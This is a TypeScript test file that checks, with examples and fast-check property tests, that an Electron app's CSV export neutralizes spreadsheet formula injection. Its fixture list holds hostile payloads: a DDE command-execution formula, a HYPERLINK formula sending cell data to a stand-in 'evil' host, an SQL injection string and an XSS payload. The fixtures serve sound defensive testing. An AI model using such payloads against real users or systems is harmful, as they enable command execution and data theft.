import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { FORMULA_TRIGGERS, isFormulaLike, neutralizeCell, toSafeCsv } from '../../../electron/core/store/csv-safe'

const hostile = [
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1',
  '\r=1',
  '\0=1',
  ' =1',
  '\uff1dHYPERLINK("http://x")',
  '=HYPERLINK("http://evil/?"&A1,"click")',
  "'; DROP TABLE scan;--",
  '<img src=x onerror=alert(1)>',
  '\u202Eexe.txt',
  'a,"b"\nc'
]

/** Strings built from the characters that matter for CSV and formulas, plus full Unicode. */
const cellArb = fc.oneof(
  fc.string({ unit: fc.constantFrom(...FORMULA_TRIGGERS, ' ', '"', ',', ';', "'", 'a', '1', '\n', '\r', '\u00a0', '\u2028'), maxLength: 12 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.constantFrom(...hostile)
)

describe('CSV cell neutralization', () => {
  it('prefixes a quote to formula-like cells and leaves others alone', () => {
    expect(neutralizeCell('=1+1')).toBe("'=1+1")
    expect(neutralizeCell(' \t@x')).toBe("' \t@x")
    expect(neutralizeCell('dev-1')).toBe('dev-1')
    expect(neutralizeCell('')).toBe('')
    expect(neutralizeCell(null)).toBe('')
    expect(neutralizeCell(-5)).toBe("'-5")
    for (const h of hostile.slice(0, 9)) expect(neutralizeCell(h).startsWith("'")).toBe(true)
  })

  it('property: after a CSV round trip no cell is formula-like and the original text is recoverable', () => {
    const seed = Number(process.env.FC_SEED ?? Date.now() % 2 ** 31)
    console.log(`csv-safe property seed=${seed} (replay with FC_SEED=${seed})`)
    let cells = 0
    let neutralized = 0
    fc.assert(
      fc.property(fc.array(fc.array(cellArb, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const width = Math.max(...rows.map((r) => r.length))
        const square = rows.map((r) => [...r, ...Array<string>(width - r.length).fill('')])
        const csv = toSafeCsv(null, square)
        const back = parse(csv, { relax_column_count: false }) as string[][]
        expect(back).toHaveLength(square.length)
        back.forEach((row, i) =>
          row.forEach((cell, j) => {
            const original = square[i]![j]!
            cells++
            expect(isFormulaLike(cell)).toBe(false)
            if (cell !== original) {
              neutralized++
              expect(cell).toBe(`'${original}`)
              expect(isFormulaLike(original)).toBe(true)
            }
          })
        )
      }),
      { numRuns: 10_000, seed }
    )
    console.log(`csv-safe property: ${cells} cells checked, ${neutralized} neutralized, 0 formula-like after export`)
    expect(neutralized).toBeGreaterThan(0)
  })
})
